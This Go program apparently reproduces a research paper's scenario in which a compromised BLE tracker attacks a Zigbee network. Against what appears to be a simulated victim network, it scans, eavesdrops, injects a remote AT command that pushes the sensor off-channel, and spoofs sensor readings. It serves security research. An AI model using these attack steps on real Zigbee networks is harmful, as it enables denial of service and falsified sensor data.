// Scenario B (section VI-C of the paper): a complex Zigbee attack from a
// compromised BLE tracker (Gablys Lite, nRF51822).
//
// The nRF51822 lacks LE 2M, so the attack runs over Nordic's Enhanced
// ShockBurst at 2 Mbit/s — noisier, but sufficient. Four steps, as in
// Figure 5: active scan, eavesdropping, remote AT command injection (a
// denial of service pushing the sensor off-channel) and fake data
// injection mimicking the silenced sensor.
package main

import (
	"fmt"
	"io"
	"log"
	"os"

	"wazabee"
	"wazabee/internal/ieee802154"
)

const (
	sps        = 8
	snrDB      = 24
	dosChannel = 25 // where the sensor gets exiled
)

func main() {
	if err := run(os.Stdout); err != nil {
		log.Fatal(err)
	}
}

func run(w io.Writer) error {
	network, err := wazabee.NewVictimNetwork(51822, sps, snrDB)
	if err != nil {
		return err
	}

	model := wazabee.NRF51822()
	fmt.Fprintf(w, "attacker radio: %s (%v — no LE 2M, ESB fallback)\n", model.Name, model.Mode)
	tx, err := wazabee.NewTransmitter(model, sps)
	if err != nil {
		return err
	}
	rx, err := wazabee.NewReceiver(model, sps)
	if err != nil {
		return err
	}
	tracker, err := wazabee.NewTracker(tx, rx, network)
	if err != nil {
		return err
	}

	// Step 1: active scanning.
	info, err := tracker.ActiveScan(ieee802154.Channels())
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "step 1 — active scan: network found on channel %d, PAN %#04x, coordinator %#04x\n",
		info.Channel, info.PAN, info.Coordinator)

	// Step 2: eavesdropping.
	sensor, err := tracker.Eavesdrop(info, 10)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "step 2 — eavesdropping: sensor address %#04x\n", sensor)

	// Step 3: remote AT command injection (denial of service).
	if err := tracker.InjectChannelChange(info, sensor, dosChannel); err != nil {
		return err
	}
	fmt.Fprintf(w, "step 3 — AT command injected: sensor now on channel %d (network is on %d)\n",
		network.Sensor.Channel, info.Channel)

	// The silenced sensor keeps reporting — on the wrong channel.
	before := len(network.Coordinator.Readings)
	for i := 0; i < 3; i++ {
		if _, err := network.Step(info.Channel); err != nil {
			return err
		}
	}
	fmt.Fprintf(w, "         sensor sent 3 readings, coordinator received %d of them\n",
		len(network.Coordinator.Readings)-before)

	// Step 4: fake data injection.
	for _, value := range []uint16{8080, 8081, 8082} {
		if err := tracker.SpoofData(info, sensor, value); err != nil {
			return err
		}
	}
	fmt.Fprintln(w, "step 4 — spoofed readings acknowledged by the coordinator")

	fmt.Fprintln(w, "\ncoordinator display log (tail):")
	readings := network.Coordinator.Readings
	start := 0
	if len(readings) > 6 {
		start = len(readings) - 6
	}
	for _, r := range readings[start:] {
		fmt.Fprintf(w, "  from %#04x seq %3d: value %d\n", r.Src, r.Seq, r.Value)
	}
	return nil
}
